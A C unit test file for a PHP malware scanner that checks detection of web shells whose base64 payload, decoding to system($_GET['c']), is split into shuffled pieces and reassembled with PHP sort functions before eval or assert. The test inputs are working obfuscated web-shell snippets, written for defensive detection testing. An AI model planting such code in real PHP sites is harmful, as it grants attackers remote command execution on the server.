/* The PHP analysis: a payload split into pieces stored out of order, put
 * back in order by a sort (sort, ksort, krsort, asort, and the user sorts
 * usort/uksort/uasort with a comparator the evaluator can run) and joined,
 * by implode or by a foreach that appends each piece. The pieces decode to
 * system($_GET["c"]) only in the right order. Every snippet is written
 * here from the technique, not taken from a sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

/* base64 of system($_GET["c"]); in five pieces, keyed 0..4, shuffled */
#define PIECES "0 => 'c3lzdG', 2 => 'R0VUWy', 3 => 'JjIl0p', 4 => 'Ow==', 1 => 'VtKCRf'"

static void test_builtin_sorts(void **state)
{
	(void)state;
	expect("<?php $p = array(" PIECES "); ksort($p); eval(base64_decode(implode('', $p)));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $p = ['k00' => 'c3lzdG', 'k02' => 'R0VUWy', 'k03' => 'JjIl0p', "
	       "'k04' => 'Ow==', 'k01' => 'VtKCRf'];\n"
	       "ksort($p); $s = ''; foreach ($p as $v) { $s .= $v; } eval(base64_decode($s));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $p = array(" PIECES "); krsort($p); $p = array_reverse($p);\n"
	       "@assert(base64_decode(join($p)));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	/* values sorted: each piece carries its rank in front */
	expect("<?php $p = ['3JjIl0p', '0c3lzdG', '4Ow==', '2R0VUWy', '1VtKCRf']; sort($p); "
	       "$s = '';\n"
	       "foreach ($p as $x) $s .= substr($x, 1); eval(base64_decode($s));",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_user_sorts(void **state)
{
	(void)state;
	expect("<?php $p = array(" PIECES ");\n"
	       "uksort($p, function($a, $b) { return $a - $b; }); "
	       "eval(base64_decode(implode($p)));",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php $p = array(array(3, 'JjIl0p'), array(0, 'c3lzdG'), array(4, 'Ow=='), "
	       "array(2, 'R0VUWy'), array(1, 'VtKCRf'));\n"
	       "usort($p, function($a, $b) { return $a[0] <=> $b[0]; });\n"
	       "eval(base64_decode(implode('', array_column($p, 1))));",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

/* out of order, nothing sorts them: the layer is noise, not a command */
static void test_unsorted(void **state)
{
	(void)state;
	run("<?php $p = array(" PIECES "); eval(base64_decode(implode('', $p)));");
	assert_null(find("php.input_to_command"));
	/* a config table walked to build a query string: a string, no finding */
	quiet("<?php $q = ''; foreach (['a' => 1, 'b' => 2] as $k => $v) { $q .= \"$k=$v&\"; } "
	      "echo htmlspecialchars($q);");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_builtin_sorts),
	    cmocka_unit_test(test_user_sorts),
	    cmocka_unit_test(test_unsorted),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
